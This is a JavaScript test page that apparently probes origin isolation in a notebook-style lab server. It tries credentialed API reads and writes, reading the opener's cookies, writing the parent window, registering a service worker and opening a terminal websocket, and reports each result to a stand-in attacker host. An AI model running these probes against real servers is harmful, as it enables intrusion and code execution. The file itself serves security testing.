// A page of the drive that tries what its origin may do: the interface, terminals, its opener and its parent. NAME is
// its name, EVIL and LAB are the addresses of the attacker and of the laboratory.

const BODY = '{"type": "directory"}';
const say = (what, result) => fetch(`${EVIL}did?` + new URLSearchParams({ name: NAME, what, result }), { mode: 'no-cors' });
const request = (path, options) => fetch(LAB + path, { credentials: 'include', ...options });
const attempt = (what, run) => {
  try {
    Promise.resolve(run()).then(() => say(what, 'done'), () => say(what, 'refused'));
  } catch {
    say(what, 'refused');
  }
};

attempt('reads the interface', () => request('api/contents'));
attempt('makes a folder', () => request(`api/contents/${NAME}.made`, { method: 'PUT', body: BODY }));
request('api/contents', { method: 'POST', mode: 'no-cors', body: BODY }).catch(() => 0);
attempt('reads its opener', () => opener.document.cookie);
if (parent !== self) attempt('writes its parent', () => (parent.document.title = 'pwned'));
attempt('starts a service worker', () => navigator.serviceWorker.register(`${LAB}files/worker.js`));
const socket = new WebSocket(`${LAB.replace('http', 'ws')}terminals/websocket/1`);
socket.onopen = () => say('opens a terminal', 'done');
socket.onerror = () => say('opens a terminal', 'refused');
